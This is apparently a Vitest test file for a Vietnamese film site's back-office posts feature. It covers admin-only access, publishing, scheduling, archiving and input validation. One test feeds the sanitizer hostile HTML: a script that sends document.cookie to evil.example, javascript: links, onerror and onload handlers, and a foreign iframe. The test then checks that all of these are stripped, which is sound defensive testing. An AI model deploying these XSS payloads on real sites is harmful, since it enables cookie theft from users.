import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createFilm } from "#server/db/seed/factories.ts";
import { createTestApp, type TestApp } from "#server/testing/test-app.ts";
import { NOW } from "../auth/auth-test-kit.ts";
import { asUser, expectGuarded, signedIn } from "#server/testing/back-office-test-kit.ts";
import { uploadedImage } from "../catalog/films-test-kit.ts";

/** Issue 15, "Content" part 2: reviews and blog posts in the back office, and how they reach the public site (decision 047). */

let t: TestApp;
let admin: string;
let art: string;
let squareArt: string;

const uploaded = (width: number, height: number, colour: string) => uploadedImage(t, admin, width, height, colour);

beforeAll(async () => {
  t = await createTestApp({ seed: true, now: NOW });
  admin = await signedIn(t, "admin");
  [art, squareArt] = await Promise.all([uploaded(1280, 720, "#3a86ff"), uploaded(600, 600, "#ff006e")]);
});
afterAll(() => t.close());

const postBody = (overrides: Record<string, unknown> = {}) => ({
  type: "blog",
  title: `Năm bộ phim Việt đáng xem ${Math.random().toString(36).slice(2, 7)}`,
  imageMediaId: art,
  excerpt: "Những bộ phim Việt khiến khán giả ra rạp nhiều lần trong năm nay.",
  body: "<h2>Vì sao phim Việt thắng lớn</h2><p>Kịch bản gần gũi, diễn viên trẻ và cách làm phim ngày càng chuyên nghiệp.</p><blockquote><p>Khán giả muốn thấy mình trên màn ảnh.</p></blockquote>",
  status: "published",
  ...overrides,
});

const publicPost = (slug: string) => t.app.inject(`/api/v1/posts/${slug}`);
const publicList = async (type: string) => ((await t.app.inject(`/api/v1/posts?type=${type}`)).json().result as { id: string }[]).map((p) => p.id);

describe("who may change posts", () => {
  it("refuses every post endpoint to anyone but an admin (401 signed out, 403 customer, staff, manager)", async () => {
    const id = "00000000-0000-4000-8000-000000000000";
    await expectGuarded(t, { method: "GET", url: "/api/v1/admin/posts" }, { minRole: "admin" });
    await expectGuarded(t, { method: "POST", url: "/api/v1/admin/posts", payload: postBody() }, { minRole: "admin" });
    await expectGuarded(t, { method: "GET", url: `/api/v1/admin/posts/${id}` }, { minRole: "admin" });
    await expectGuarded(t, { method: "PATCH", url: `/api/v1/admin/posts/${id}`, payload: {} }, { minRole: "admin" });
    await expectGuarded(t, { method: "DELETE", url: `/api/v1/admin/posts/${id}` }, { minRole: "admin" });
  });
});

describe("posts", () => {
  it("publishes a review about a film, lists it first with its views, shows it on the public site and audits it", async () => {
    const film = await createFilm(t.database.db);
    const created = await asUser(t, admin, { method: "POST", url: "/api/v1/admin/posts", payload: postBody({ type: "review", filmId: film.id }) });
    expect(created.statusCode).toBe(201);
    const post = created.json().result;
    expect(post).toMatchObject({
      type: "review",
      status: "published",
      state: "published",
      filmId: film.id,
      views: 0,
      imageMediaId: expect.any(String),
      publishedAt: NOW.toISOString(),
    });
    const list = (await asUser(t, admin, { method: "GET", url: "/api/v1/admin/posts" })).json().result.items;
    expect(list.map((p: { id: string }) => p.id)).toContain(post.id);
    const page = await publicPost(post.slug);
    expect(page.statusCode).toBe(200);
    expect(page.json().result.body).toBe(post.body);
    expect(await publicList("review")).toContain(post.id);
    const audit = (await asUser(t, admin, { method: "GET", url: `/api/v1/admin/audit?entity=post&id=${post.id}` })).json().result;
    expect(audit[0]).toMatchObject({ action: "post.create", entity: "post", label: post.title });
  });

  it("stores hostile HTML sanitized and keeps headings, quotes, our pictures and a trailer", async () => {
    const created = await asUser(t, admin, {
      method: "POST",
      url: "/api/v1/admin/posts",
      payload: postBody({
        body:
          '<h2 style="color:red" onclick="steal()">Trailer chính thức</h2><script>fetch("https://evil.example/?c="+document.cookie)</script>' +
          '<p>Xem trailer bên dưới rồi đặt vé sớm để có chỗ đẹp nhất nhé bạn.<a href="javascript:alert(1)">bấm</a></p>' +
          '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe><iframe src="https://evil.example/frame"></iframe>' +
          '<img src="https://tracker.example/x.gif" onerror="alert(1)"><svg onload="alert(1)"></svg><blockquote>Hay tuyệt.</blockquote>',
      }),
    });
    expect(created.statusCode).toBe(201);
    const body: string = created.json().result.body;
    expect(body).toContain("<h2>Trailer chính thức</h2>");
    expect(body).toContain('src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"');
    expect(body).toContain("<blockquote>Hay tuyệt.</blockquote>");
    for (const hostile of ["script", "onclick", "onerror", "style=", "javascript:", "evil.example", "tracker.example", "<svg"])
      expect(body).not.toContain(hostile);
    expect((await publicPost(created.json().result.slug)).json().result.body).toBe(body);
  });

  it("keeps a post scheduled for tomorrow 00:00 off the site until its time, then shows it dated that moment", async () => {
    const created = await asUser(t, admin, { method: "POST", url: "/api/v1/admin/posts", payload: postBody({ publishAt: "02/05/2026 00:00" }) });
    expect(created.statusCode).toBe(201);
    const post = created.json().result;
    expect(post).toMatchObject({ status: "scheduled", state: "scheduled", publishAt: "2026-05-01T17:00:00.000Z", publishedAt: "2026-05-01T17:00:00.000Z" });
    expect((await publicPost(post.slug)).statusCode).toBe(404);
    expect(await publicList("blog")).not.toContain(post.id);
    t.setNow(new Date("2026-05-01T16:59:59Z"));
    expect((await publicPost(post.slug)).statusCode).toBe(404);
    t.setNow(new Date("2026-05-01T17:00:05Z"));
    expect((await publicPost(post.slug)).statusCode).toBe(200);
    expect(await publicList("blog")).toContain(post.id);
    expect((await asUser(t, admin, { method: "GET", url: `/api/v1/admin/posts/${post.id}` })).json().result.state).toBe("published");
    t.setNow(NOW);
  });

  it("publishes a draft, archives it off the site, and deletes it", async () => {
    const draft = (await asUser(t, admin, { method: "POST", url: "/api/v1/admin/posts", payload: postBody({ status: "draft" }) })).json().result;
    expect(draft.state).toBe("draft");
    expect((await publicPost(draft.slug)).statusCode).toBe(404);
    const published = await asUser(t, admin, {
      method: "PATCH",
      url: `/api/v1/admin/posts/${draft.id}`,
      payload: { status: "published", title: "Bản đã sửa: phim Việt năm nay" },
    });
    expect(published.statusCode).toBe(200);
    expect(published.json().result).toMatchObject({ state: "published", title: "Bản đã sửa: phim Việt năm nay" });
    expect((await publicPost(draft.slug)).statusCode).toBe(200);
    await asUser(t, admin, { method: "PATCH", url: `/api/v1/admin/posts/${draft.id}`, payload: { status: "archived" } });
    expect((await publicPost(draft.slug)).statusCode).toBe(404);
    const audit = (await asUser(t, admin, { method: "GET", url: `/api/v1/admin/audit?entity=post&id=${draft.id}` })).json().result;
    expect(audit.map((a: { action: string }) => a.action)).toEqual(["post.archive", "post.publish", "post.create"]);
    expect((await asUser(t, admin, { method: "DELETE", url: `/api/v1/admin/posts/${draft.id}` })).statusCode).toBe(200);
    expect((await asUser(t, admin, { method: "GET", url: `/api/v1/admin/posts/${draft.id}` })).statusCode).toBe(404);
  });

  it("refuses a misshapen picture, an unknown film, a taken slug and a body with no words, in Vietnamese, and stores nothing", async () => {
    const first = (await asUser(t, admin, { method: "POST", url: "/api/v1/admin/posts", payload: postBody() })).json().result;
    const before = (await asUser(t, admin, { method: "GET", url: "/api/v1/admin/posts" })).json().result.total;
    const bad = await asUser(t, admin, {
      method: "POST",
      url: "/api/v1/admin/posts",
      payload: postBody({ imageMediaId: squareArt, filmId: "00000000-0000-4000-8000-000000000000", slug: first.slug, body: "<script>alert('x')</script>" }),
    });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.fields).toMatchObject({
      imageMediaId: expect.stringContaining("16:9"),
      filmId: expect.stringContaining("phim"),
      slug: expect.any(String),
      body: expect.any(String),
    });
    const wrongType = await asUser(t, admin, { method: "POST", url: "/api/v1/admin/posts", payload: postBody({ type: "news", title: "" }) });
    expect(wrongType.statusCode).toBe(400);
    expect(Object.keys(wrongType.json().error.fields).sort()).toEqual(["title", "type"]);
    expect((await asUser(t, admin, { method: "GET", url: "/api/v1/admin/posts" })).json().result.total).toBe(before);
  });
});
